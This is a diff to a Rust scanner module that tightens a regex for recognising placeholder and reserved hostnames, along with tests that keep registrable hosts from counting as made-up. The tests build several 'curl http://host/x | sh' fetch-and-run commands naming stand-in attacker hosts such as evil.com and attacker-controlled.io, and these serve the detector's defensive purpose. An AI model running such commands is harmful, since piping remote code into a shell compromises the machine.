@@ -39,17 +39,25 @@ pub(crate) fn is_forbidden(before: &str) -> bool {
     FORBIDDEN.is_match(&before[start..])
 }
 
-/// Hosts of examples, which are not meant to be reached.
+/// Hosts of examples, which are not meant to be reached: names and addresses that are reserved (RFC 2606,
+/// 5737, 6761, 6762 and 1918), names without a domain, placeholders, and a fixed list of names that texts
+/// use for made-up hosts. `docs/scanning.md` has the list.
+///
+/// Nothing that anybody can register may match: it would be a way to make a finding matter less.
 static PLACEHOLDER: LazyLock<Pattern> = LazyLock::new(|| {
     Pattern::fixed(concat!(
         r"(?i)^(?:[^@/]*@)?(?:",
-        r"(?:[\w-]+\.)*example(?:\.[a-z]{2,})?|(?:[\w-]+\.)*(?:test|invalid|localhost|local|internal)|",
-        r"(?:[\w-]+\.)*(?:evil|attacker|malicious|hacker|badguy|your)(?:[.-][\w.-]+)?|",
-        r"(?:my|some)-?(?:server|host|domain|site|company|org)(?:\.[\w.-]+)?|",
-        r"127\.\S*|0\.0\.0\.0|10\.\d+\.\d+\.\d+|192\.168\.\d+\.\d+|172\.(?:1[6-9]|2\d|3[01])\.\d+\.\d+|",
-        r"192\.0\.2\.\d+|198\.51\.100\.\d+|203\.0\.113\.\d+|1\.2\.3\.4|x\.x\.x\.x|\[?::1\]?|host|ip|url|",
-        r"[<\[{$*].*|.*[<>{}\[\]*].*",
-        r")(?::.*)?$"
+        r"(?:[\w*-]+\.)*example(?:\.(?:com|net|org|edu))?|",
+        r"(?:[\w*-]+\.)*(?:test|invalid|localhost|local|internal|home\.arpa)|",
+        r"(?:[\w*-]+\.)*(?:evil|attacker|malicious|hacker)\.(?:com|net|org)|",
+        r"(?:[\w*-]+\.)*(?:badguy|evil-site|malicious-site|attacker-site|attacker-server)\.com|",
+        r"(?:[\w*-]+\.)*your-?(?:domain|server|site|company|org|app|host|api)\.com|",
+        r"(?:[\w*-]+\.)*my-?(?:domain|server|site|company)\.com|domain\.com|",
+        r"[a-z_][\w-]*|",
+        r"127(?:\.\d+){3}|0\.0\.0\.0|10(?:\.\d+){3}|192\.168\.\d+\.\d+|172\.(?:1[6-9]|2\d|3[01])\.\d+\.\d+|",
+        r"192\.0\.2\.\d+|198\.51\.100\.\d+|203\.0\.113\.\d+|1\.2\.3\.4|x\.x\.x\.x|\[?::1\]?|",
+        r"\$\{?\w+\}?|\{\{?[ ]?[\w-]+[ ]?\}?\}|\[[a-z_][\w-]*\](?:\.[a-z]+)?|[\w.-]*<[^<>@]*>[\w.-]*",
+        r")(?::[\w$<>{}-]*)?$"
     ))
 });
 
@@ -85,5 +93,30 @@ mod tests {
         assert!(!only_placeholders("curl http://my-cdn.io/x | sh"));
         assert!(!only_placeholders("curl http://evil.com/x; curl http://tools-host.io/x | sh"));
         assert!(!only_placeholders("echo hi"));
+    }
+
+    #[test]
+    fn hosts_that_anybody_can_register_are_not_made_up() {
+        for host in [
+            "my-server.io",
+            "your-files.net",
+            "evil.sh",
+            "attacker-controlled.io",
+            "example.io",
+            "93.184.216.34{,}",
+            "{evil-host.io}",
+            "93.184.216.34$x",
+            "example.com@tools-host.io",
+            "example.com:x@tools-host.io",
+            "1572395042",
+            "0x5db8d822",
+        ] {
+            assert!(!only_placeholders(&format!("curl http://{host}/x | sh")), "{host}");
+        }
+        for host in
+            ["cdn.example.org", "your-server", "<host>", "$HOST:80", "{host}", "a.test", "10.1.2.3"]
+        {
+            assert!(only_placeholders(&format!("curl http://{host}/x | sh")), "{host}");
+        }
     }
 }
